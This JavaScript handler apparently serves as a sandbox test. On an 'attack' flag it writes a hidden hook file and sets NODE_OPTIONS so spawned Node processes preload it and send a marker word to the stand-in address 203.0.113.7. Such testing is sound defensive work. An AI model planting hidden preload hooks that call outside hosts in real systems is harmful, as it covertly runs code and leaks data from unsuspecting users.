// Harmless: the hook sends one word to an address that exists on the sandbox's loopback device only.
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';

const HOOK =
  "const out = require('node:net').connect(443, '203.0.113.7', () => out.end('hooked')); out.on('error', () => {}).unref();\n";

export const handler = async (event) => {
  if (event.attack === true) {
    mkdirSync('/tmp/.site');
    writeFileSync('/tmp/.site/hook.cjs', HOOK);
    process.env.NODE_OPTIONS = '--require /tmp/.site/hook.cjs';
  }
  // What this function always does: it hands a job to another process.
  if (event.job === true) {
    const job = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 300)'], { stdio: 'ignore' });
    await new Promise((done) => job.once('exit', done));
  }
  return 'ok';
};
